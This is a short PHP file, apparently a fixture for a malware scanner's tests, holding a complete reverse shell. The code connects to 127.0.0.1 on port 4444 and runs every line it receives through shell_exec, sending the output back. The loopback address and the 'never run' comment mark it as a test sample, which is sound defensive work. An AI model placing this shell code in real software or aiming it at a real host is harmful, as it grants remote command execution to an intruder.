<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Connects out and runs each line the peer sends as a shell command (loopback address).
$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($s, '127.0.0.1', 4444);
while ($line = socket_read($s, 2048, PHP_NORMAL_READ)) {
    socket_write($s, (string) shell_exec(trim($line)));
}
socket_close($s);
